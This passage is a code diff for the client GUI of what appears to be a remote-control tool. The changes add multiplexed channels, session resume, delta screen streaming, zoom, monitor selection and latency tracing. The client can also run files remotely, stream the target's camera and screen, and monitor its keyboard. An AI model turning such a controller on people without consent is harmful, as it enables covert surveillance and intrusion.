@@ -3,19 +3,25 @@
 所有功能与服务端实际支持的功能一一对应
 """
 
+import os
 import tkinter as tk
 from tkinter import messagebox, simpledialog, filedialog, ttk, scrolledtext
 import socket
 import threading
 import json
 import struct
-import io
 import time
 from datetime import datetime
-from PIL import Image, ImageTk
+from PIL import ImageTk, ImageDraw
 
 from protocol import *
-from config import CLIENT_PORT, AUTH_PASSWORD_HASH
+from multiplex import MuxConnection
+from heartbeat import Heartbeat
+from resume import reconnect
+from screen_codec import ScreenCompositor, draw_cursor
+from frame_trace import LatencyTracer
+from config import (CLIENT_PORT, AUTH_PASSWORD_HASH, CONNECTION_TIMEOUT, SCREEN_TILE_CACHE_SIZE, SCREEN_CODEC,
+                    LATENCY_TRACE_ENABLED)
 from gui_theme import COLORS, FONTS, PADDING
 
 class VisualClientUI(tk.Tk):
@@ -26,15 +32,31 @@ class VisualClientUI(tk.Tk):
         self.configure(bg=COLORS['bg_dark'])
 
         self.sock = None
+        self.conn = None  # 多路复用连接: 各功能在独立通道上收发, 互不阻塞
+        self.heartbeat = None  # 心跳 (往返时延: self.heartbeat.rtt)
         self.is_connected = False
+        self._server = None  # (ip, port)
+        self.password_hash = None
+        self.resume_token = None  # 恢复令牌: 连接中断后凭此重连并恢复会话
+        self._resume_lock = threading.Lock()  # 多个线程同时发现断线时只重连一次
+        self._resumed = False  # 最近一次重连是否恢复了原会话
         self.streaming = False
+        self._screen_cache_size = 0  # 服务器确认的块缓存容量
+        self._viewport = (800, 450)  # 屏幕显示区域的大小 (随窗口缩放更新)
+        self._viewport_job = None  # 显示区域大小变化后延迟通知服务器的任务
+        self._monitor = 1  # 查看/截图的显示器编号
+        self._screen_region = None  # 当前画面对应的区域 (服务器响应中的 region, 框选放大时换算坐标)
+        self._zoom_mode = False  # 是否处于框选放大模式
+        self._zoom_start = None  # 框选的起点 (画面坐标)
+        self._zoomed = False  # 是否正在只查看框选的区域
         self.keyboard_monitoring = False
         self.camera_streaming = False  # 摄像头视频流状态
+        # 各阶段时延 (截屏/编码/排队/网络/解码/绘制), 可画在画面上或导出为 CSV
+        self.screen_tracer = LatencyTracer()
+        self.camera_tracer = LatencyTracer()
+        self._show_latency = False
 
-        # Socket锁，防止多线程竞争
-        self.sock_lock = threading.Lock()
-
-        # 屏幕流的原始尺寸（用于鼠标坐标映射）
+        # 屏幕流画面的尺寸（用于鼠标坐标映射; 服务器按画面缩放比例换算回屏幕坐标）
         self.original_screen_size = None  # (width, height)
         self.displayed_image_size = None  # (width, height) 实际显示的尺寸
 
@@ -154,9 +176,11 @@ class VisualClientUI(tk.Tk):
         btn_disconnect.pack(side='right')
 
     def _update_time(self):
-        """更新时间显示"""
+        """更新时间显示 (及往返时延)"""
         now = datetime.now().strftime("%Y-%m-%d %H:%M:%S")
         self.lbl_time.config(text=now)
+        if self.heartbeat and self.heartbeat.rtt is not None:
+            self.lbl_target.config(text=f"Target: {self.target_ip}  RTT: {self.heartbeat.rtt * 1000:.0f}ms")
         self.after(1000, self._update_time)
 
     # ==================== 标签页1: 系统信息（静态）====================
@@ -211,9 +235,7 @@ class VisualClientUI(tk.Tk):
         """刷新系统信息"""
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_system_info_message())
-                    msg = receive_message(self.sock)
+                msg = self._call(create_system_info_message(), CONNECTION_TIMEOUT)
 
                 if msg and msg['type'] == MessageType.SYSTEM_INFO_RESPONSE:
                     info = msg['data']['info']
@@ -312,24 +334,22 @@ class VisualClientUI(tk.Tk):
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_file_download_message(filepath))
-                    header = receive_message(self.sock)
-
-                    if header and header['type'] == MessageType.FILE_DATA:
-                        if header['data']['success']:
-                            file_data = receive_binary_data(self.sock)
-                            filename = header['data']['filename']
-
-                            save_path = filedialog.asksaveasfilename(initialfile=filename)
-                            if save_path:
-                                with open(save_path, 'wb') as f:
-                                    f.write(file_data)
-                                self.after(0, lambda: messagebox.showinfo("Success", f"File downloaded to {save_path}"))
-                                self.add_history("File", f"Downloaded: {filepath}", "Success")
-                        else:
-                            error = header['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", f"Download failed: {error}"))
+                header = self._call(create_file_download_message(filepath), CONNECTION_TIMEOUT)
+
+                if header and header['type'] == MessageType.FILE_DATA:
+                    if header['data']['success']:
+                        file_data = header.get('payload')
+                        filename = header['data']['filename']
+
+                        save_path = filedialog.asksaveasfilename(initialfile=filename)
+                        if save_path:
+                            with open(save_path, 'wb') as f:
+                                f.write(file_data)
+                            self.after(0, lambda: messagebox.showinfo("Success", f"File downloaded to {save_path}"))
+                            self.add_history("File", f"Downloaded: {filepath}", "Success")
+                    else:
+                        error = header['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", f"Download failed: {error}"))
             except Exception as e:
                 print(f"Download error: {e}")
 
@@ -349,21 +369,18 @@ class VisualClientUI(tk.Tk):
                 with open(local_path, 'rb') as f:
                     file_data = f.read()
 
-                with self.sock_lock:
-                    # 发送上传请求
-                    send_message(self.sock, create_file_upload_message(filename, filename))
-                    # 发送文件数据
-                    send_binary_data(self.sock, file_data)
-                    # 接收响应
-                    resp = receive_message(self.sock)
-
-                    if resp and resp['type'] == MessageType.FILE_UPLOAD_RESPONSE:
-                        if resp['data']['success']:
-                            self.after(0, lambda: messagebox.showinfo("Success", "File uploaded successfully"))
-                            self.add_history("File", f"Uploaded: {filename}", "Success")
-                        else:
-                            error = resp['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", f"Upload failed: {error}"))
+                # 发送上传请求 (文件数据分块随请求发送)
+                future = self._request(create_file_upload_message(filename, filename), payload=file_data)
+                # 接收响应
+                resp = self.conn.wait(future, CONNECTION_TIMEOUT)
+
+                if resp and resp['type'] == MessageType.FILE_UPLOAD_RESPONSE:
+                    if resp['data']['success']:
+                        self.after(0, lambda: messagebox.showinfo("Success", "File uploaded successfully"))
+                        self.add_history("File", f"Uploaded: {filename}", "Success")
+                    else:
+                        error = resp['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", f"Upload failed: {error}"))
             except Exception as e:
                 print(f"Upload error: {e}")
 
@@ -380,18 +397,16 @@ class VisualClientUI(tk.Tk):
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_file_execute_message(filepath, args or ''))
-                    resp = receive_message(self.sock)
-
-                    if resp and resp['type'] == MessageType.FILE_EXECUTE_RESPONSE:
-                        if resp['data']['success']:
-                            output = resp['data'].get('output', 'Executed successfully')
-                            self.after(0, lambda: messagebox.showinfo("Success", f"Output:\n{output}"))
-                            self.add_history("File", f"Executed: {filepath}", "Success")
-                        else:
-                            error = resp['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", f"Execution failed: {error}"))
+                resp = self._call(create_file_execute_message(filepath, args or ''), CONNECTION_TIMEOUT)
+
+                if resp and resp['type'] == MessageType.FILE_EXECUTE_RESPONSE:
+                    if resp['data']['success']:
+                        output = resp['data'].get('output', 'Executed successfully')
+                        self.after(0, lambda: messagebox.showinfo("Success", f"Output:\n{output}"))
+                        self.add_history("File", f"Executed: {filepath}", "Success")
+                    else:
+                        error = resp['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", f"Execution failed: {error}"))
             except Exception as e:
                 print(f"Execute error: {e}")
 
@@ -432,6 +447,37 @@ class VisualClientUI(tk.Tk):
                                      highlightthickness=0, length=150)
         self.quality_scale.set(50)
         self.quality_scale.pack(side='left')
+        # 屏幕流运行中拖动滑块: 松开后修改质量, 不重启屏幕流
+        self.quality_scale.bind('<ButtonRelease-1>', self.on_quality_changed)
+
+        # 编码格式: auto 时文字/纯色区域无损, 图片区域用 JPEG (运行中切换不重启屏幕流)
+        tk.Label(control_frame, text="Codec:", bg=COLORS['bg_lighter'],
+                fg='white', font=FONTS['body']).pack(side='left', padx=10)
+
+        self.codec_combo = ttk.Combobox(control_frame, values=['auto', 'jpeg', 'png', 'webp'], state='readonly',
+                                        font=FONTS['body'], width=6)
+        self.codec_combo.set(SCREEN_CODEC)
+        self.codec_combo.pack(side='left')
+        self.codec_combo.bind('<<ComboboxSelected>>', self.on_codec_selected)
+
+        self.btn_screen_latency = self._create_latency_buttons(control_frame, self.screen_tracer)
+
+        # 框选放大: 只传输选中区域 (按原始分辨率), 再次点击恢复整个屏幕
+        self.btn_zoom = tk.Button(control_frame, text="🔍 ZOOM", command=self.toggle_zoom,
+                                  bg=COLORS['btn_bg'], fg='white', font=FONTS['body'],
+                                  relief='flat')
+        self.btn_zoom.pack(side='left', padx=5)
+
+        # 显示器选择 (屏幕流运行中切换时不重启屏幕流)
+        tk.Label(control_frame, text="Monitor:", bg=COLORS['bg_lighter'],
+                fg='white', font=FONTS['body']).pack(side='left', padx=10)
+
+        self.monitor_combo = ttk.Combobox(control_frame, values=['1: Primary'], state='readonly',
+                                          font=FONTS['body'], width=22)
+        self.monitor_combo.current(0)
+        self.monitor_combo.pack(side='left')
+        self.monitor_combo.bind('<<ComboboxSelected>>', self.on_monitor_selected)
+        self._load_monitors()
 
         # 鼠标控制提示
         tk.Label(control_frame, text="| Mouse Control: Click on screen to send mouse events",
@@ -444,40 +490,21 @@ class VisualClientUI(tk.Tk):
 
         # 绑定鼠标事件（用于远程控制）
         self.screen_label.bind('<Button-1>', self.on_screen_click)
+        self.screen_label.bind('<ButtonRelease-1>', self.on_screen_release)
         self.screen_label.bind('<Button-3>', self.on_screen_right_click)
+        # 显示区域大小变化时通知服务器, 按新的大小缩放画面
+        self.screen_label.bind('<Configure>', self.on_screen_resize)
 
     # ==================== 标签页4: 摄像头视频流 ====================
-    def _clear_socket_buffer(self, timeout=0.1):
-        """
-        清理 socket 接收缓冲区中的残留数据
-        Args:
-            timeout: 超时时间(秒)
-        """
-        original_timeout = self.sock.gettimeout()
-        self.sock.settimeout(timeout)
-        total_cleared = 0
-        try:
-            while True:
-                leftover = self.sock.recv(4096)
-                if not leftover:
-                    break
-                total_cleared += len(leftover)
-        except:
-            pass
-        finally:
-            self.sock.settimeout(original_timeout)
-        return total_cleared
-
     def clear_video_stream_residuals(self):
         """清除视频流残存数据"""
         try:
-            with self.sock_lock:
-                # 清理缓冲区中的所有残留数据
-                cleared = self._clear_socket_buffer(timeout=1.0)
-                if cleared > 0:
-                    print(f"成功清理了 {cleared} 字节的视频流残留数据")
-                else:
-                    print("缓冲区中没有发现残留数据")
+            # 丢弃摄像头通道中尚未处理的残留帧
+            cleared = self.conn.clear(Channel.CAMERA)
+            if cleared > 0:
+                print(f"成功清理了 {cleared} 条视频流残留消息")
+            else:
+                print("通道中没有发现残留数据")
         except Exception as e:
             print(f"清除视频流残存数据失败: {e}")
 
@@ -525,6 +552,8 @@ class VisualClientUI(tk.Tk):
         self.camera_quality_scale.set(70)
         self.camera_quality_scale.pack(side='left')
 
+        self.btn_camera_latency = self._create_latency_buttons(control_frame, self.camera_tracer)
+
         # 摄像头显示区域
         self.camera_label = tk.Label(tab, bg='black', text="Camera video will appear here\nClick START VIDEO to begin",
                                      fg=COLORS['fg_white'], font=FONTS['h2'])
@@ -539,23 +568,24 @@ class VisualClientUI(tk.Tk):
 
         def _start():
             try:
-                with self.sock_lock:
-                    # 使用 VIDEO_START 消息启动摄像头流
-                    msg = create_video_start_message(width=640, height=480, fps=30, quality=quality)
-                    send_message(self.sock, msg)
-                    resp = receive_message(self.sock)
-
-                    if resp and resp['type'] == MessageType.VIDEO_START:
-                        if resp['data'].get('success'):
-                            self.camera_streaming = True
-                            self.after(0, lambda: self.btn_start_camera.config(state='disabled'))
-                            self.after(0, lambda: self.btn_stop_camera.config(state='normal'))
-                            # 开始接收视频帧
-                            threading.Thread(target=self._camera_stream_loop, daemon=True).start()
-                            self.add_history("Camera", "Started camera video stream", "Success")
-                        else:
-                            error = resp['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", f"Failed to start camera: {error}"))
+                # 丢弃上次视频流残留的帧, 再用 VIDEO_START 消息启动摄像头流
+                self.conn.clear(Channel.CAMERA)
+                msg = create_video_start_message(width=640, height=480, fps=30, quality=quality,
+                                                 trace=LATENCY_TRACE_ENABLED)
+                resp = self._call(msg, CONNECTION_TIMEOUT)
+
+                if resp and resp['type'] == MessageType.VIDEO_START:
+                    if resp['data'].get('success'):
+                        self.camera_streaming = True
+                        self.camera_tracer.reset()
+                        self.after(0, lambda: self.btn_start_camera.config(state='disabled'))
+                        self.after(0, lambda: self.btn_stop_camera.config(state='normal'))
+                        # 开始接收视频帧
+                        threading.Thread(target=self._camera_stream_loop, daemon=True).start()
+                        self.add_history("Camera", "Started camera video stream", "Success")
+                    else:
+                        error = resp['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", f"Failed to start camera: {error}"))
             except Exception as e:
                 print(f"Start camera stream error: {e}")
                 self.after(0, lambda: messagebox.showerror("Error", f"Camera error: {e}"))
@@ -572,28 +602,12 @@ class VisualClientUI(tk.Tk):
         def _stop():
             try:
                 time.sleep(0.2)  # 给流线程时间退出
-                with self.sock_lock:
-                    send_message(self.sock, create_video_stop_message())
-
-                    # 清理残留数据
-                    self.sock.settimeout(2.0)
-                    try:
-                        while True:
-                            msg = receive_message(self.sock)
-                            if not msg:
-                                break
-                            if msg['type'] == MessageType.VIDEO_STOP:
-                                print("Received VIDEO_STOP confirmation")
-                                break
-                            elif msg['type'] == MessageType.VIDEO_FRAME:
-                                _ = receive_binary_data(self.sock)
-                                print("Discarded residual camera frame")
-                            else:
-                                break
-                    except Exception as e:
-                        print(f"Cleanup camera residual: {e}")
-                    finally:
-                        self.sock.settimeout(None)
+                # 等待停止确认 (按请求ID匹配), 再丢弃途中残留的帧
+                if self._call(create_video_stop_message(), 2.0):
+                    print("Received VIDEO_STOP confirmation")
+                cleared = self.conn.clear(Channel.CAMERA)
+                if cleared:
+                    print(f"Discarded {cleared} residual camera frames")
             except Exception as e:
                 print(f"Stop camera stream error: {e}")
 
@@ -609,23 +623,29 @@ class VisualClientUI(tk.Tk):
         try:
             while self.camera_streaming:
                 try:
-                    with self.sock_lock:
-                        msg = receive_message(self.sock)
-                        if not msg:
-                            break
-
-                        if msg['type'] == MessageType.VIDEO_FRAME:
-                            img_bytes = receive_binary_data(self.sock)
-                            if img_bytes:
-                                image = Image.open(io.BytesIO(img_bytes))
-                                # 缩放以适应显示区域
-                                image.thumbnail((800, 450))
-                                photo = ImageTk.PhotoImage(image)
-
-                                if self.camera_streaming:
-                                    self.after(0, lambda p=photo: self._update_camera_frame(p))
-                        elif msg['type'] == MessageType.VIDEO_STOP:
+                    # 短超时以便及时响应停止操作
+                    msg = self.conn.receive(Channel.CAMERA, 1.0)
+                    if not msg:
+                        # 连接中断: 恢复会话后视频流继续
+                        if self.conn.closed and not self.resume():
                             break
+                        continue
+
+                    if msg['type'] == MessageType.VIDEO_FRAME:
+                        img_bytes = msg.get('payload')
+                        if img_bytes:
+                            decode_start = time.time()
+                            image = decode_image(img_bytes)
+                            # 缩放以适应显示区域
+                            image.thumbnail((800, 450))
+                            image = self._draw_latency(image, self.camera_tracer)
+                            photo = ImageTk.PhotoImage(image)
+                            trace = (msg, decode_start, time.time())
+
+                            if self.camera_streaming:
+                                self.after(0, lambda p=photo, t=trace: self._update_camera_frame(p, t))
+                    elif msg['type'] == MessageType.VIDEO_STOP:
+                        break
                 except Exception as e:
                     print(f"Camera frame error: {e}")
                     break
@@ -636,14 +656,69 @@ class VisualClientUI(tk.Tk):
             self.after(0, lambda: self.btn_start_camera.config(state='normal'))
             self.after(0, lambda: self.btn_stop_camera.config(state='disabled'))
 
-    def _update_camera_frame(self, photo):
-        """更新摄像头帧"""
+    def _update_camera_frame(self, photo, trace=None):
+        """更新摄像头帧, trace 为 (帧消息, 开始解码时间, 解码完成时间)"""
         try:
             self.camera_label.configure(image=photo, text='')
             self.camera_label.image = photo
+            self._record_latency(self.camera_tracer, trace)
         except:
             pass
 
+    # ==================== 帧时延 ====================
+
+    def _create_latency_buttons(self, parent, tracer):
+        """时延显示开关与导出按钮, 返回开关按钮"""
+        button = tk.Button(parent, text="📊 LATENCY", command=self.toggle_latency,
+                           bg=COLORS['btn_bg'], fg='white', font=FONTS['body'], relief='flat')
+        button.pack(side='left', padx=5)
+        tk.Button(parent, text="💾 CSV", command=lambda: self.export_latency(tracer),
+                  bg=COLORS['btn_bg'], fg='white', font=FONTS['body'], relief='flat').pack(side='left', padx=5)
+        return button
+
+    def toggle_latency(self):
+        """显示/隐藏画面上的各阶段时延 (屏幕与摄像头共用)"""
+        self._show_latency = not self._show_latency
+        text = "📊 HIDE LATENCY" if self._show_latency else "📊 LATENCY"
+        for button in (self.btn_screen_latency, self.btn_camera_latency):
+            button.config(text=text)
+
+    def export_latency(self, tracer):
+        """把各帧的阶段时延与直方图导出为 CSV"""
+        if not tracer.count:
+            messagebox.showinfo("Latency", "No traced frames yet")
+            return
+        filepath = filedialog.asksaveasfilename(defaultextension='.csv', initialfile='latency.csv',
+                                                filetypes=[("CSV", "*.csv")])
+        if not filepath:
+            return
+        success, result = tracer.export_csv(filepath)
+        if success:
+            success, result = tracer.export_histogram_csv(os.path.splitext(filepath)[0] + '_histogram.csv')
+        if success:
+            messagebox.showinfo("Latency", f"Exported {tracer.count} frames to:\n{filepath}")
+        else:
+            messagebox.showerror("Error", result)
+
+    def _draw_latency(self, image, tracer):
+        """显示时延时把各阶段时延画在画面左上角 (返回新图像, 不修改原图)"""
+        lines = tracer.overlay_lines() if self._show_latency else []
+        if not lines:
+            return image
+        image = image.copy()
+        draw = ImageDraw.Draw(image)
+        draw.rectangle((4, 4, 250, 8 + 12 * len(lines)), fill=(0, 0, 0))
+        draw.multiline_text((8, 6), '\n'.join(lines), fill=(0, 255, 0), spacing=1)
+        return image
+
+    def _record_latency(self, tracer, trace):
+        """画面已绘制: 记录这一帧的各阶段时延"""
+        if trace is None:
+            return
+        msg, decode_start, decoded = trace
+        min_rtt = self.heartbeat.estimator.min if self.heartbeat else None
+        tracer.record(msg, decode_start, decoded, time.time(), min_rtt)
+
     def _map_click_to_screen_coords(self, click_x, click_y):
         """
         将点击坐标从显示图像映射到原始屏幕坐标
@@ -693,17 +768,19 @@ class VisualClientUI(tk.Tk):
             print("Click outside of screen image area")
             return
 
+        if self._zoom_mode:
+            self._zoom_start = coords  # 框选的起点, 松开鼠标时完成
+            return
+
         screen_x, screen_y = coords
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_mouse_event_message('click', screen_x, screen_y, 'left', 1))
-                    resp = receive_message(self.sock)
-                    if resp and resp.get('data', {}).get('success'):
-                        print(f"Mouse click sent: display({event.x}, {event.y}) -> screen({screen_x}, {screen_y})")
-                    else:
-                        print(f"Mouse click failed: {resp}")
+                resp = self._call(create_mouse_event_message('click', screen_x, screen_y, 'left', 1), CONNECTION_TIMEOUT)
+                if resp and resp.get('data', {}).get('success'):
+                    print(f"Mouse click sent: display({event.x}, {event.y}) -> screen({screen_x}, {screen_y})")
+                else:
+                    print(f"Mouse click failed: {resp}")
             except Exception as e:
                 print(f"Mouse click error: {e}")
 
@@ -724,46 +801,182 @@ class VisualClientUI(tk.Tk):
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_mouse_event_message('click', screen_x, screen_y, 'right', 1))
-                    resp = receive_message(self.sock)
-                    if resp and resp.get('data', {}).get('success'):
-                        print(f"Mouse right-click sent: display({event.x}, {event.y}) -> screen({screen_x}, {screen_y})")
-                    else:
-                        print(f"Mouse right-click failed: {resp}")
+                resp = self._call(create_mouse_event_message('click', screen_x, screen_y, 'right', 1), CONNECTION_TIMEOUT)
+                if resp and resp.get('data', {}).get('success'):
+                    print(f"Mouse right-click sent: display({event.x}, {event.y}) -> screen({screen_x}, {screen_y})")
+                else:
+                    print(f"Mouse right-click failed: {resp}")
             except Exception as e:
                 print(f"Mouse right-click error: {e}")
 
         threading.Thread(target=_thread, daemon=True).start()
 
+    def on_screen_release(self, event):
+        """框选放大模式下松开鼠标: 放大查看框选的区域"""
+        if not self._zoom_mode or self._zoom_start is None:
+            return
+        start, self._zoom_start = self._zoom_start, None
+        end = self._map_click_to_screen_coords(event.x, event.y)
+        if end is None or not self._screen_region:
+            return
+        x, y = min(start[0], end[0]), min(start[1], end[1])
+        w, h = abs(end[0] - start[0]), abs(end[1] - start[1])
+        if w < 8 or h < 8:
+            return  # 只是点击, 不是框选
+
+        self._set_zoom_mode(False)
+        region = zoom_region(self._screen_region, self.original_screen_size, (x, y, w, h))
+        self._update_screen_stream(region=region)
+        self._set_zoomed(True)
+
+    def toggle_zoom(self):
+        """放大按钮: 未放大时进入框选模式; 已放大时恢复整个屏幕"""
+        if not self.streaming:
+            return
+        if self._zoomed:
+            self._update_screen_stream(region={})
+            self._set_zoomed(False)
+            return
+        self._set_zoom_mode(not self._zoom_mode)
+
+    def _set_zoom_mode(self, enabled):
+        self._zoom_mode = enabled
+        self._zoom_start = None
+        self.screen_label.config(cursor='crosshair' if enabled else '')
+
+    def _set_zoomed(self, zoomed):
+        self._zoomed = zoomed
+        self.btn_zoom.config(text="⤢ FULL" if zoomed else "🔍 ZOOM")
+
+    def on_quality_changed(self, event=None):
+        """质量滑块松开: 屏幕流运行中时修改质量"""
+        if self.streaming:
+            self._update_screen_stream(quality=self.quality_scale.get())
+
+    def on_codec_selected(self, event=None):
+        """选择编码格式: 屏幕流运行中时改用新的格式"""
+        if self.streaming:
+            self._update_screen_stream(codec=self.codec_combo.get())
+
+    def _update_screen_stream(self, **params):
+        """修改运行中的屏幕流的参数 (SCREEN_UPDATE), 成功后记录新的区域"""
+        def _thread():
+            try:
+                resp = self._call(create_screen_update_message(**params), CONNECTION_TIMEOUT)
+                if resp and resp['data'].get('success'):
+                    self._screen_region = resp['data'].get('region')
+                    self.add_history("Screen", f"Updated screen stream: {params}", "Success")
+                else:
+                    error = resp['data'].get('error', 'Unknown error') if resp else 'No response'
+                    self.after(0, lambda: messagebox.showerror("Error", f"Failed to update screen stream: {error}"))
+            except Exception as e:
+                print(f"Update screen stream error: {e}")
+
+        threading.Thread(target=_thread, daemon=True).start()
+
+    def on_screen_resize(self, event):
+        """显示区域大小变化: 停止缩放 0.3 秒后再通知服务器, 避免拖动窗口时频繁切换"""
+        if event.width <= 5 or event.height <= 5:
+            return
+        self._viewport = (event.width - 4, event.height - 4)  # 减去边框
+        if not self.streaming:
+            return
+        if self._viewport_job is not None:
+            self.after_cancel(self._viewport_job)
+        self._viewport_job = self.after(300, self._send_viewport)
+
+    def _send_viewport(self):
+        self._viewport_job = None
+        if not self.streaming:
+            return
+        try:
+            width, height = self._viewport
+            self.conn.request(create_screen_viewport_message(width, height))
+        except Exception as e:
+            print(f"Send viewport error: {e}")
+
+    def _load_monitors(self):
+        """向服务器查询显示器列表, 填入显示器选择框"""
+        def _thread():
+            try:
+                resp = self._call(create_monitor_list_message(), CONNECTION_TIMEOUT)
+                if not resp or not resp['data'].get('success'):
+                    return
+                values = []
+                for info in resp['data'].get('monitors', []):
+                    name = 'All' if info['index'] == 0 else ('Primary' if info['primary'] else 'Monitor')
+                    values.append(f"{info['index']}: {name} {info['width']}x{info['height']}")
+                if values:
+                    self.after(0, lambda: self._set_monitor_values(values))
+            except Exception as e:
+                print(f"List monitors error: {e}")
+
+        threading.Thread(target=_thread, daemon=True).start()
+
+    def _set_monitor_values(self, values):
+        self.monitor_combo.config(values=values)
+        if self._monitor < len(values):
+            self.monitor_combo.current(self._monitor)
+
+    def on_monitor_selected(self, event=None):
+        """选择显示器: 屏幕流运行中时通知服务器切换, 否则在下次开始时使用"""
+        monitor = int(self.monitor_combo.get().split(':')[0])
+        if monitor == self._monitor:
+            return
+        self._monitor = monitor
+        if not self.streaming:
+            return
+
+        def _thread():
+            try:
+                resp = self._call(create_screen_monitor_message(monitor), CONNECTION_TIMEOUT)
+                if resp and resp['data'].get('success'):
+                    self._screen_region = resp['data'].get('region')
+                    self.add_history("Screen", f"Switched to monitor {monitor}", "Success")
+                else:
+                    error = resp['data'].get('error', 'Unknown error') if resp else 'No response'
+                    self.after(0, lambda: messagebox.showerror("Error", f"Failed to switch monitor: {error}"))
+            except Exception as e:
+                print(f"Switch monitor error: {e}")
+
+        threading.Thread(target=_thread, daemon=True).start()
+
     def start_screen_stream(self):
         """开始屏幕流"""
         if self.streaming:
             return
 
         quality = self.quality_scale.get()
+        codec = self.codec_combo.get()
+        viewport = self._viewport
+        monitor = self._monitor
 
         def _start():
             try:
-                with self.sock_lock:
-                    # 使用 SCREEN_START 消息启动屏幕流
-                    msg = create_screen_start_message(fps=10, quality=quality)
-                    send_message(self.sock, msg)
-                    resp = receive_message(self.sock)
-
-                    if resp and resp['type'] == MessageType.SCREEN_START:
-                        if resp['data'].get('success'):
-                            self.streaming = True
-                            self.after(0, lambda: self.btn_start_stream.config(state='disabled'))
-                            self.after(0, lambda: self.btn_stop_stream.config(state='normal'))
-                            # 开始接收屏幕帧
-                            threading.Thread(target=self._screen_stream_loop, daemon=True).start()
-                            self.add_history("Screen", "Started screen streaming", "Success")
-                        else:
-                            error = resp['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", f"Failed to start screen streaming: {error}"))
+                # 丢弃上次屏幕流残留的消息, 再用 SCREEN_START 消息启动屏幕流
+                # (服务器把画面缩小到显示区域大小再编码)
+                self.conn.clear(Channel.SCREEN)
+                msg = create_screen_start_message(fps=10, quality=quality, monitor=monitor, delta=True,
+                                                  cache_size=SCREEN_TILE_CACHE_SIZE, viewport=viewport,
+                                                  cursor=True, codec=codec, trace=LATENCY_TRACE_ENABLED)
+                resp = self._call(msg, CONNECTION_TIMEOUT)
+
+                if resp and resp['type'] == MessageType.SCREEN_START:
+                    if resp['data'].get('success'):
+                        self.streaming = True
+                        self.screen_tracer.reset()
+                        self._screen_cache_size = resp['data'].get('cache_size', 0)
+                        self._screen_region = resp['data'].get('region')
+                        self.after(0, lambda: self.btn_start_stream.config(state='disabled'))
+                        self.after(0, lambda: self.btn_stop_stream.config(state='normal'))
+                        # 开始接收屏幕帧
+                        threading.Thread(target=self._screen_stream_loop, daemon=True).start()
+                        self.add_history("Screen", "Started screen streaming", "Success")
                     else:
-                        self.after(0, lambda: messagebox.showerror("Error", "Screen streaming request denied by server"))
+                        error = resp['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", f"Failed to start screen streaming: {error}"))
+                else:
+                    self.after(0, lambda: messagebox.showerror("Error", "Screen streaming request denied by server"))
             except Exception as e:
                 print(f"Start screen stream error: {e}")
                 self.after(0, lambda: messagebox.showerror("Error", f"Screen streaming error: {e}"))
@@ -776,32 +989,18 @@ class VisualClientUI(tk.Tk):
             return
 
         self.streaming = False
+        self._set_zoom_mode(False)
+        self._set_zoomed(False)
 
         def _stop():
             try:
                 time.sleep(0.2)  # 给流线程时间退出
-                with self.sock_lock:
-                    send_message(self.sock, create_screen_stop_message())
-
-                    # 清理残留数据
-                    self.sock.settimeout(2.0)
-                    try:
-                        while True:
-                            msg = receive_message(self.sock)
-                            if not msg:
-                                break
-                            if msg['type'] == MessageType.SCREEN_STOP:
-                                print("Received SCREEN_STOP confirmation")
-                                break
-                            elif msg['type'] == MessageType.SCREEN_FRAME:
-                                _ = receive_binary_data(self.sock)
-                                print("Discarded residual screen frame")
-                            else:
-                                break
-                    except Exception as e:
-                        print(f"Cleanup screen residual: {e}")
-                    finally:
-                        self.sock.settimeout(None)
+                # 等待停止确认 (按请求ID匹配), 再丢弃途中残留的帧
+                if self._call(create_screen_stop_message(), 2.0):
+                    print("Received SCREEN_STOP confirmation")
+                cleared = self.conn.clear(Channel.SCREEN)
+                if cleared:
+                    print(f"Discarded {cleared} residual screen frames")
             except Exception as e:
                 print(f"Stop screen stream error: {e}")
 
@@ -814,29 +1013,49 @@ class VisualClientUI(tk.Tk):
 
     def _screen_stream_loop(self):
         """屏幕流接收循环"""
+        # 把分块差量帧拼成完整画面, 块缓存容量以服务器确认的为准
+        compositor = ScreenCompositor(self._screen_cache_size)
+        base = None  # 缩放到显示区域的最近画面 (不含光标), 光标移动时在它上面重画光标
         try:
             while self.streaming:
                 try:
-                    with self.sock_lock:
-                        msg = receive_message(self.sock)
-                        if not msg:
+                    # 短超时以便及时响应停止操作
+                    msg = self.conn.receive(Channel.SCREEN, 1.0)
+                    if not msg:
+                        # 连接中断: 恢复会话后屏幕流继续
+                        if self.conn.closed and not self.resume():
                             break
-
-                        if msg['type'] == MessageType.SCREEN_FRAME:
-                            img_bytes = receive_binary_data(self.sock)
-                            if img_bytes:
-                                image = Image.open(io.BytesIO(img_bytes))
-                                # 缩放以适应显示区域
-                                image.thumbnail((800, 450))
-                                photo = ImageTk.PhotoImage(image)
-
-                                if self.streaming:
-                                    self.after(0, lambda p=photo: self._update_screen_frame(p))
-                        elif msg['type'] == MessageType.SCREEN_STOP:
-                            print("Received SCREEN_STOP from server")
-                            break
-                        else:
-                            print(f"Unexpected message type: {msg['type']}")
+                        continue
+
+                    if msg['type'] in (MessageType.SCREEN_FRAME, MessageType.SCREEN_TILES,
+                                       MessageType.SCREEN_CURSOR):
+                        decode_start = time.time()
+                        image = compositor.apply(msg)
+                        if image is None:
+                            # 等待关键帧 (保留最近的画面); 块缓存不一致时请求服务器重新同步
+                            if compositor.resync_due():
+                                self.conn.send(create_screen_keyframe_message())
+                            continue
+                        if msg['type'] != MessageType.SCREEN_CURSOR or base is None:
+                            base = image.copy()  # 画面会被后续的块继续修改
+                            self.original_screen_size = image.size
